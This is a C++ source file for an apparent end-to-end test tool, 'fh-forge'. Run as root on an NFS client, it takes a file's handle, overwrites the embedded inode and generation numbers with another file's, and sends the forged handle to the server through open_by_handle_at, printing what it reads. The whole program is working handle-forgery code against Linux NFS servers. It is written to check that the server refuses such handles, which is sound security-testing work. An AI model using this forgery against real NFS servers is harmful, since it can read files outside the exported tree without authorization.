// fh-forge: the NFS file-handle forgery of issue 22 (item 6), run by root on
// an NFS consumer in the e2e guests.
//
//   fh-forge PATH OLD_INO:OLD_GEN=NEW_INO:NEW_GEN [...]
//
// name_to_handle_at(PATH) on an NFS mount returns the client's handle, which
// embeds the server's file handle (fs/nfs/export.c: fileid high and low, the
// inode type, then the server's nfs_fh). knfsd's handle carries the file's
// inode number and generation as two 32-bit words (ext4's FILEID_INO32_GEN,
// followed by the parent's pair under subtree_check). Each OLD pair is found
// (exactly once) and replaced by NEW, the client's fileid words too, and
// open_by_handle_at makes the client send the forged handle to the server
// (GETATTR, then OPEN by handle). What it reads goes to stdout.
//
// Exit: 0 read, 2 usage or the handle could not be forged (a test must not
// mistake that for a refusal), 3 open_by_handle_at refused, 4 read failed.
#include <fcntl.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

struct Pair {
  uint32_t ino = 0;
  uint32_t gen = 0;
};

bool ParsePair(const std::string& text, Pair* out) {
  size_t colon = text.find(':');
  if (colon == std::string::npos) return false;
  char* end = nullptr;
  errno = 0;
  unsigned long long ino = std::strtoull(text.c_str(), &end, 10);
  if (errno != 0 || end != text.c_str() + colon || ino > UINT32_MAX) return false;
  unsigned long long gen = std::strtoull(text.c_str() + colon + 1, &end, 10);
  if (errno != 0 || *end != '\0' || gen > UINT32_MAX) return false;
  out->ino = static_cast<uint32_t>(ino);
  out->gen = static_cast<uint32_t>(gen);
  return true;
}

std::string Hex(const unsigned char* p, size_t n) {
  std::string out;
  char b[3];
  for (size_t i = 0; i < n; ++i) {
    std::snprintf(b, sizeof(b), "%02x", p[i]);
    out += b;
  }
  return out;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 3) {
    std::fprintf(stderr, "usage: fh-forge PATH OLD_INO:OLD_GEN=NEW_INO:NEW_GEN [...]\n");
    return 2;
  }
  const char* path = argv[1];
  std::vector<unsigned char> buf(sizeof(file_handle) + MAX_HANDLE_SZ);
  auto* fh = reinterpret_cast<file_handle*>(buf.data());
  fh->handle_bytes = MAX_HANDLE_SZ;
  int mount_id = 0;
  if (name_to_handle_at(AT_FDCWD, path, fh, &mount_id, 0) != 0) {
    std::fprintf(stderr, "fh-forge: name_to_handle_at %s: %s\n", path, std::strerror(errno));
    return 2;
  }
  std::fprintf(stderr, "fh-forge: handle type %d, %u bytes: %s\n", fh->handle_type,
               fh->handle_bytes, Hex(fh->f_handle, fh->handle_bytes).c_str());
  for (int i = 2; i < argc; ++i) {
    std::string arg = argv[i];
    size_t eq = arg.find('=');
    Pair from, to;
    if (eq == std::string::npos || !ParsePair(arg.substr(0, eq), &from) ||
        !ParsePair(arg.substr(eq + 1), &to)) {
      std::fprintf(stderr, "fh-forge: bad substitution '%s'\n", arg.c_str());
      return 2;
    }
    unsigned char want[8], repl[8];
    std::memcpy(want, &from.ino, 4);  // knfsd writes host-endian words
    std::memcpy(want + 4, &from.gen, 4);
    std::memcpy(repl, &to.ino, 4);
    std::memcpy(repl + 4, &to.gen, 4);
    size_t found = 0, at = 0;
    // Every byte offset: the server's handle starts 2 bytes into a word
    // (struct nfs_fh begins with a 16-bit size).
    for (size_t off = 0; off + 8 <= fh->handle_bytes; ++off) {
      if (std::memcmp(fh->f_handle + off, want, 8) == 0) {
        ++found;
        at = off;
      }
    }
    if (found != 1) {
      std::fprintf(stderr, "fh-forge: %s occurs %zu times in the handle, want once\n",
                   arg.substr(0, eq).c_str(), found);
      return 2;
    }
    std::memcpy(fh->f_handle + at, repl, 8);
    // The NFS client's own fileid words (high, low) of the first file.
    uint32_t words[2];
    std::memcpy(words, fh->f_handle, 8);
    if (i == 2 && words[0] == 0 && words[1] == from.ino) {
      words[1] = to.ino;
      std::memcpy(fh->f_handle, words, 8);
    }
  }
  std::fprintf(stderr, "fh-forge: forged:                 %s\n",
               Hex(fh->f_handle, fh->handle_bytes).c_str());
  // Not O_PATH: open_by_handle_at takes no O_PATH descriptor (EBADF).
  int mount_fd = open(path, O_RDONLY | O_CLOEXEC);
  if (mount_fd < 0) {
    std::fprintf(stderr, "fh-forge: open %s: %s\n", path, std::strerror(errno));
    return 2;
  }
  int fd = open_by_handle_at(mount_fd, fh, O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    std::fprintf(stderr, "fh-forge: open_by_handle_at refused: %s\n", std::strerror(errno));
    return 3;
  }
  char data[4096];
  ssize_t n = read(fd, data, sizeof(data));
  if (n < 0) {
    std::fprintf(stderr, "fh-forge: read: %s\n", std::strerror(errno));
    return 4;
  }
  fwrite(data, 1, static_cast<size_t>(n), stdout);
  close(fd);
  close(mount_fd);
  return 0;
}
